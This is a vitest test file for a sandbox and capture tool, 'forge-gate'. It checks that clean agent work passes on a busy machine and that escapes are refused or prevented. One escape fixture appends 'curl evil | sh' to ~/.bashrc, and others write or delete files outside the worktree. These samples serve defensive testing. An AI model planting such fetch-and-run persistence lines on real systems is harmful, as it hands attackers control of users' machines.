import { type ChildProcess, execFileSync, spawn, spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { agentEnv, type Fixture, git, makeFixture } from "../collect/fixture.js";
import { CLI, runCli } from "../support/cli.js";
import { scratchIsTemp, scratchRoot } from "../support/scratch.js";

/**
 * A busy machine is the normal case: while the agent runs, other programs keep writing every temp
 * directory (/tmp, /var/tmp, /dev/shm, $TMPDIR), their own corners of HOME, and the npm cache (a real
 * `npm cache add` by another process). `forge-gate run` (the capture layer) and `run --enforce` (the
 * sandbox), with the lease `forge-gate lease init --tools npm` writes, pass clean work (edits, commits,
 * mktemp, an npm install with its preset) every time, charging those writes to no one: the temp
 * directories and HOME outside the grants are not even walked (the agent could not write there, and the
 * report says so), while the npm cache (a grant) is walked and judged; an escape is still refused and
 * named alone (capture) or prevented (sandbox).
 */

const RUNS = 10;
const tag = `fg-busy-${process.pid}-${randomBytes(4).toString("hex")}`;
const busyDirs = [`/tmp/${tag}`, `/var/tmp/${tag}`, `/dev/shm/${tag}`];

interface Report {
  verdict: string;
  attribution: string;
  command: { exit_code: number | null };
  violations: { path: string; reason: string }[];
  host_activity: { path: string }[];
  changes: { path: string; source: string }[];
  coverage: { roots: string[]; skipped: { path: string; reason: string }[] };
}

let f: Fixture;
let lease: string;
const writers: ChildProcess[] = [];

/**
 * The fixture's environment without what `npm test` exports (npm_config_cache would point npm at the
 * real ~/.npm, outside the lease: an escape, rightly).
 */
function env(): NodeJS.ProcessEnv {
  return Object.fromEntries(Object.entries(agentEnv(f)).filter(([k]) => !/^npm_/i.test(k)));
}

/** The writes other programs make all the time, each loop a little different (create, rewrite, delete). */
function startWriters(): void {
  const places = [
    ...busyDirs,
    join(f.tmp, "other-job"),
    join(f.home, ".cache", "other-tool"),
    join(f.home, ".config", "other-app"),
    join(f.home, ".local", "state", "other"),
  ];
  for (const d of places) mkdirSync(d, { recursive: true });
  // One process, no forks: it must keep every place busy without starving the runs it surrounds.
  // Once this test process is gone (killed before its afterAll ran), the writer removes its places
  // in the machine's temp directories (the first `shared` of them) and ends.
  const loop = `
    const fs = require("fs");
    const [owner, shared, ...places] = process.argv.slice(1);
    let i = 0;
    setInterval(() => {
      try { process.kill(Number(owner), 0); } catch {
        for (const d of places.slice(0, Number(shared))) fs.rmSync(d, { recursive: true, force: true });
        process.exit(0);
      }
      for (const d of places) {
        try {
          fs.writeFileSync(d + "/f" + (i % 5), i + " " + Math.random());
          fs.rmSync(d + "/f" + ((i + 2) % 5), { force: true });
          fs.mkdirSync(d + "/sub" + (i % 3), { recursive: true });
          fs.appendFileSync(d + "/sub" + (i % 3) + "/log", i + "\\n");
        } catch {}
      }
      i++;
    }, 20);`;
  writers.push(
    spawn(process.execPath, ["-e", loop, String(process.pid), String(busyDirs.length), ...places], {
      stdio: "ignore",
      detached: true,
    }),
  );
  // A real npm writing its cache in the same HOME (the npm preset grants ~/.npm: judged, and allowed).
  const pkg = join(f.T, "other-pkg");
  mkdirSync(pkg);
  writeFileSync(join(pkg, "package.json"), '{"name":"other-pkg","version":"1.0.0"}\n');
  execFileSync("npm", ["pack", "-q", "--pack-destination", f.T], {
    cwd: pkg,
    env: { ...process.env, ...f.env },
  });
  const npmLoop = [
    'while kill -0 "$2" 2>/dev/null; do',
    `  npm cache add "$1" --cache "$HOME/.npm" --no-audit --no-fund >/dev/null 2>&1`,
    "  sleep 2",
    "done",
  ].join("\n");
  writers.push(
    spawn("bash", ["-c", npmLoop, "busy-npm", join(f.T, "other-pkg-1.0.0.tgz"), String(process.pid)], {
      stdio: "ignore",
      env: env(),
      detached: true,
    }),
  );
}

beforeAll(() => {
  f = makeFixture({ under: scratchRoot() });
  // A dependency the agent installs from its worktree, with npm's cache in ~/.npm (the preset's grant).
  const dep = join(f.wt, "vendor", "tiny-dep");
  mkdirSync(dep, { recursive: true });
  writeFileSync(join(dep, "package.json"), '{"name":"tiny-dep","version":"1.0.0","main":"index.js"}\n');
  writeFileSync(join(dep, "index.js"), "module.exports = (a, b) => a + b;\n");
  execFileSync("npm", ["pack", "-q", "--pack-destination", join(f.wt, "vendor")], {
    cwd: dep,
    env: { ...process.env, ...f.env },
  });
  rmSync(dep, { recursive: true });
  writeFileSync(join(f.wt, "package.json"), '{"name":"app","version":"1.0.0","private":true}\n');
  writeFileSync(join(f.wt, ".gitignore"), "node_modules/\n");
  git(["add", "."], f.wt, f.env);
  git(["commit", "-qm", "app"], f.wt, f.env);
  // A sibling checkout beside the others: an ordinary place on the host.
  git(["clone", "-q", f.repo, join(f.T, "sibling")], f.T, f.env);
  // The lease a new user gets.
  const init = runCli(["lease", "init", "--tools", "npm"], { cwd: f.wt, env: env() });
  expect(init.status, init.stderr).toBe(0);
  lease = join(f.T, "lease.yaml");
  writeFileSync(lease, init.stdout);
  startWriters();
}, 120_000);

afterAll(async () => {
  // Each writer leads its own process group (an npm it started included): ended by that id.
  for (const w of writers)
    try {
      if (w.pid !== undefined) process.kill(-w.pid, "SIGKILL");
    } catch {
      // already gone
    }
  const gone = (w: ChildProcess) =>
    w.exitCode !== null || w.signalCode !== null
      ? null
      : new Promise((r) => {
          w.once("exit", r);
          setTimeout(r, 5000);
        });
  await Promise.all(writers.map(gone));
  // Nothing a writer started may outlive the suite (an `npm cache add` still looping is a leak).
  let left = survivors([tag, f.T]);
  for (const end = Date.now() + 5000; left.length > 0 && Date.now() < end; left = survivors([tag, f.T]))
    await new Promise((r) => setTimeout(r, 100));
  for (const d of [...busyDirs, f.T])
    rmSync(d, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
  expect(left, "busy writers still running after the suite").toEqual([]);
}, 120_000);

/** Processes whose command line names one of `marks` (this suite's writers and what they started). */
function survivors(marks: string[]): string[] {
  const out: string[] = [];
  for (const name of readdirSync("/proc")) {
    if (!/^\d+$/.test(name) || Number(name) === process.pid) continue;
    try {
      const cmd = readFileSync(`/proc/${name}/cmdline`, "utf8").replaceAll("\0", " ");
      if (marks.some((m) => cmd.includes(m))) out.push(`${name}: ${cmd.slice(0, 200)}`);
    } catch {
      // gone
    }
  }
  return out;
}

function run(script: string, flags: string[]): { status: number | null; report: Report; stderr: string } {
  const file = join(f.T, "agent.sh");
  writeFileSync(file, `set -euo pipefail\nexec 1>&2\n${script}\n`);
  // Every default root: the worktree, the repository, HOME and every temp directory on the machine.
  const r = spawnSync(
    process.execPath,
    [CLI, "run", "--lease", lease, "--format", "json", ...flags, "--", "bash", file],
    // A busy machine's host activity is a long list.
    { cwd: f.wt, env: env(), encoding: "utf8", maxBuffer: 256 * 1024 * 1024 },
  );
  try {
    const rep = JSON.parse(r.stdout);
    return { status: r.status, report: rep as Report, stderr: r.stderr };
  } catch {
    throw new Error(
      `no report (exit ${r.status}, ${r.signal ?? ""} ${r.error?.message ?? ""}, ${r.stdout.length} bytes): ${r.stderr.slice(-3000)}`,
    );
  }
}

const CLEAN = [
  'echo "line $RANDOM" >> README.md',
  'echo "new $RANDOM" > "src/new-$RANDOM.txt"',
  'git add -A && git commit -qm "agent work"',
  't="$(mktemp)" && echo scratch > "$t" && test -s "$t"',
  "npm install --offline --no-audit --no-fund ./vendor/tiny-dep-1.0.0.tgz >/dev/null",
  "node -e 'if (require(\"tiny-dep\")(2, 3) !== 5) process.exit(1)'",
].join("\n");

const ESCAPES: { name: string; script: string; path: () => string; untouched: () => void }[] = [
  {
    name: "an append to ~/.bashrc",
    script: 'echo "curl evil | sh" >> "$HOME/.bashrc"',
    path: () => join(f.home, ".bashrc"),
    untouched: () => expect(readFileSync(join(f.home, ".bashrc"), "utf8")).toBe("# rc\n"),
  },
  {
    name: "a write to a sibling checkout",
    script: 'echo pwned >> "$T/sibling/README.md"',
    path: () => join(f.T, "sibling", "README.md"),
    untouched: () => expect(readFileSync(join(f.T, "sibling", "README.md"), "utf8")).toBe("hello\n"),
  },
  {
    name: "a write to the main checkout",
    script: 'echo pwned > "$REPO/escape.txt"',
    path: () => join(f.repo, "escape.txt"),
    untouched: () => expect(existsSync(join(f.repo, "escape.txt"))).toBe(false),
  },
  {
    name: "a deletion outside",
    script: 'rm "$HOME/old.txt"',
    path: () => join(f.home, "old.txt"),
    untouched: () => expect(readFileSync(join(f.home, "old.txt"), "utf8")).toBe("old\n"),
  },
];

for (const [mode, flags] of [
  ["run (the capture layer)", []],
  ["run --enforce (the sandbox)", ["--enforce"]],
] as const) {
  describe(`a busy machine: ${mode}`, () => {
    const hostActivity = new Set<string>();
    const notWalked = new Map<string, string>();
    const walked = new Set<string>();
    it.each(Array.from({ length: RUNS }, (_, i) => i + 1))(
      `clean work passes (%i of ${RUNS})`,
      (i) => {
        const { status, report, stderr } = run(CLEAN, [...flags]);
        expect(report.command?.exit_code, `${stderr}\n${JSON.stringify(report).slice(0, 2000)}`).toBe(0);
        expect(report.attribution).toBe(flags.length > 0 ? "sandbox" : "capture");
        expect(report.violations, `run ${i}: ${stderr} ${JSON.stringify(report.violations)}`).toEqual([]);
        expect(status).toBe(0);
        for (const c of report.host_activity) hostActivity.add(c.path);
        for (const s of report.coverage.skipped) notWalked.set(s.path, s.reason);
        for (const r of report.coverage.roots) walked.add(r);
      },
      120_000,
    );

    it("the other programs' places were not walked (the agent could not reach them), and the report says why", () => {
      const seen = [...hostActivity];
      for (const d of [...busyDirs, join(f.tmp, "other-job"), join(f.home, ".cache", "other-tool")]) {
        expect(
          seen.some((p) => p.startsWith(`${d}/`)),
          `${d} in ${seen.length} host-activity paths`,
        ).toBe(false);
        expect(
          [...walked].some((r) => d.startsWith(`${r}/`) || d === r),
          `${d} inside a walked root`,
        ).toBe(false);
      }
      for (const t of ["/tmp", "/var/tmp", "/dev/shm", f.tmp])
        expect(notWalked.get(t), `${t}: ${JSON.stringify([...notWalked])}`).toMatch(
          /^not walked: the agent had a private /,
        );
      // HOME is walked only where the npm preset grants (its cache): there another npm's writes are judged.
      expect(notWalked.get(f.home)).toMatch(
        /^walked only where the agent's writes could reach the host \(.*\.npm/,
      );
    });

    for (const e of ESCAPES) {
      it(`${e.name}: ${flags.length > 0 ? "prevented" : "refused and named, alone"}`, () => {
        const { status, report, stderr } = run(e.script, [...flags]);
        e.untouched();
        if (flags.length > 0) {
          // The sandbox: the write fails, nothing escaped, the busy machine charged nothing to the agent.
          expect(report.command?.exit_code, `${stderr}\n${JSON.stringify(report).slice(0, 2000)}`).not.toBe(
            0,
          );
          expect(report.violations, stderr).toEqual([]);
          expect(status).toBe(0);
        } else if (e.name.includes("sibling") && scratchIsTemp()) {
          // A checkout under a temp dir: that dir is private, so the write cannot reach it at all.
          expect(report.violations.length === 0 || status === 1).toBe(true);
        } else {
          expect(status, stderr).toBe(1);
          expect(report.violations.map((v) => v.path)).toEqual([e.path()]);
        }
      }, 120_000);
    }
  });
}
